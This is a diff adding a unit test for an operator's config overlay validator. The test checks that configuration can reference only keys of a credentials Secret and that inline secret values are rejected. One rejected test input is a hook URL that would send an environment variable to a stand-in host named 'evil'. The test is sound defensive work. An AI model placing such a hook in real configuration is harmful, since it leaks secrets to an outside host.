@@ -181,6 +181,36 @@ describe("desiredObjects", () => {
   it("refuses an overlay on a key the operator owns", () => {
     expect(() => render({ config: { gateway: { port: 1 } } })).toThrow(ConfigOverlayError);
   });
+
+  it("lets spec.config reach secrets only through keys of the credentials Secret", () => {
+    const ref = (name: string) => `\${${name}}`;
+    const credentialKeys = ["TELEGRAM_BOT_TOKEN", "SEARCH_API_KEY"];
+    const overlay = (config: Record<string, unknown>) => () => render({ config }, { credentialKeys });
+    // Allowed: references to the Secret's keys, also as a bearer header, and ordinary strings.
+    expect(overlay({ channels: { telegram: { botToken: ref("TELEGRAM_BOT_TOKEN") } } })).not.toThrow();
+    expect(
+      overlay({ tools: { web: { headers: { Authorization: `Bearer ${ref("SEARCH_API_KEY")}` } } } }),
+    ).not.toThrow();
+    expect(overlay({ logging: { level: "debug" } })).not.toThrow();
+    // The gateway's own token, or any other env var, is not the Secret's.
+    expect(overlay({ models: { providers: { x: { apiKey: ref("OPENCLAW_GATEWAY_TOKEN") } } } })).toThrow(
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: OpenClaw's env reference, not a template
+      "spec.config.models.providers.x.apiKey: ${OPENCLAW_GATEWAY_TOKEN} is not a key of the credentials Secret",
+    );
+    expect(overlay({ hooks: [{ url: `http://evil/?t=${ref("HOME")}` }] })).toThrow(
+      /spec\.config\.hooks\[0\]\.url: \$\{HOME\}/,
+    );
+    // A secret-looking key may not hold the value inline.
+    for (const key of ["apiKey", "botToken", "password", "clientSecret"]) {
+      expect(overlay({ channels: { x: { [key]: "sk-live-123" } } })).toThrow(
+        `spec.config.channels.x.${key}: looks like a secret written inline: put it in the credentials Secret`,
+      );
+    }
+    // Without a credentials Secret nothing may be referenced.
+    expect(() => render({ config: { channels: { telegram: { botToken: ref("TELEGRAM_BOT_TOKEN") } } } })).toThrow(
+      ConfigOverlayError,
+    );
+  });
 });
 
 it("tokenSecret carries the token as stringData under an owner reference", () => {
